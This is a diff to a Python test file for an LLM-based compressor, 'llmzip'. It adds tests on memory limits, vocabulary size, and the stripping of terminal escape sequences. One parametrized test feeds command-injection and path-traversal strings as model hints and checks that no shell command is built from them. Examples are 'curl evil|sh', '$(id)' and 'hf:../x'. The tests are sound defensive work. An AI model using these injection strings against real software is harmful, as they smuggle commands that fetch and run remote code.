@@ -10,14 +10,16 @@ from hypothesis import strategies as st
 from test_codec import SENTENCE, FakeCodec
 
 from llmzip.codec.agreement import Coding
+from llmzip.codec.arithmetic import Probe
 from llmzip.codec.codec import Codec
 from llmzip.codec.decoding import decode_block
 from llmzip.codec.evaluation import Session
 from llmzip.codec.head import MAX_LITERALS, MAX_STREAMS, BlockHead
+from llmzip.codec.locate import find
 from llmzip.codec.pipeline import BlockPipeline
-from llmzip.container import MAX_BLOCK, BlockKind, classic, read_members
+from llmzip.container import MAX_BLOCK, BlockKind, Header, classic, read_members
 from llmzip.container.fields import encode_varint
-from llmzip.errors import ArithmeticMismatchError, CorruptError
+from llmzip.errors import ArithmeticMismatchError, CorruptError, ModelError
 from llmzip.model.base import Window
 from llmzip.text.tokens import Vocabulary
 
@@ -95,7 +97,7 @@ def test_what_is_written_can_be_read(streams, repeats):
 def test_streams_are_fewer_where_their_caches_would_not_be_justified(monkeypatch):
     monkeypatch.setattr("llmzip.codec.policy.unpromising", lambda *known: False)
     monkeypatch.setattr("llmzip.codec.policy.beyond_classic", lambda classic, model: True)
-    data = b"a" * 400_000
+    data = b"a" * 100_000
     packed = FakeCodec(streams=256, window=1000).compress(data)
     (block,) = (event for event in read_members(io.BytesIO(packed), payloads=False) if hasattr(event, "kind"))
     assert block.kind is BlockKind.MODEL
@@ -114,3 +116,39 @@ def test_zstd_payloads_are_one_whole_frame():
     for wrong in (two, skippable + frame, frame + skippable, frame[:-3], frame + b"\0"):
         with pytest.raises(CorruptError, match="zstd payload is damaged|decodes to only 1185 bytes"):
             classic.decode(BlockKind.ZSTD, wrong, len(data))
+
+
+def test_memory_of_a_small_block_is_small():
+    """So many streams take a gigabyte of caches with the embedded model; a few bytes do not justify it."""
+    payload = BlockHead(False, MAX_BLOCK // 16, MAX_STREAMS, []).payload(bytes(1 << 14))
+    assert refused(payload, 512, says="256 streams").evaluated == 0
+
+
+def test_a_vocabulary_beyond_the_format_is_told():
+    pieces = [bytes([byte]) for byte in range(256)] + [b"%07d" % i for i in range(1 << 18)]
+    with pytest.raises(ModelError, match="vocabulary has 262400 tokens, and files can have 262144"):
+        Codec(FakeModel(pieces=pieces)).compress(SENTENCE * 3)
+
+
+def test_descriptions_of_arithmetic_are_cut_and_cannot_move_the_cursor():
+    shown = Probe.unpack(b"\2" + bytes(8) + b"\x1b[31m" + b"y" * 60_000).arithmetic
+    assert len(shown) < 600 and shown.startswith("\N{REPLACEMENT CHARACTER}[31my") and shown.isprintable()
+
+
+def test_names_are_cut_and_cannot_move_the_cursor():
+    name = Header(extras={2: b"\x1b]0;title\x07\xff\xe2\x80\xae" + b"x" * 60_000}).name
+    assert len(name) < 300 and name.isprintable()
+
+
+@pytest.mark.parametrize(
+    "hint", ["hf:a/b; curl evil|sh", "hf:a/$(id)", "hf:a/b/`id`.gguf", "hf:a/b/c d.gguf", "--help", "hf:../x"]
+)
+def test_no_command_is_made_from_what_a_file_says(hint):
+    with pytest.raises(ModelError) as error:
+        find(b"unknown!", hint=hint)
+    assert f"pull {hint}" not in str(error.value) and "models add FILE" in str(error.value)
+
+
+def test_an_address_that_is_sound_stands_in_a_command():
+    with pytest.raises(ModelError, match="`llmzip models pull hf:a/b`"):
+        find(b"unknown!", hint="hf:a/b")
